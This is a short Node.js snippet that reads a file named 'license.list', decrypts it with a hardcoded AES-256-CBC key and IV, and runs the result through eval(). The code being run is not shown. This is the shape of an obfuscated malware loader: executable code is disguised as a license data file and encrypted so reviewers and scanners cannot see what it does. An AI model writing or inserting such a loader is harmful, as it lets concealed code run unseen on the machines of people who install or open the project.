const fs = require('fs'); const path = require('path'); const crypto = require('crypto');
const key = Buffer.from('3132333435363738393031323334353637383930313233343536373839303132', 'hex');
const iv = Buffer.from('31323334353637383930313233343536', 'hex');
const data = fs.readFileSync(path.join(__dirname, 'license.list'), 'utf8');
const d = crypto.createDecipheriv('aes-256-cbc', key, iv);
let code = d.update(data, 'base64', 'utf8');
code += d.final('utf8');
eval(code);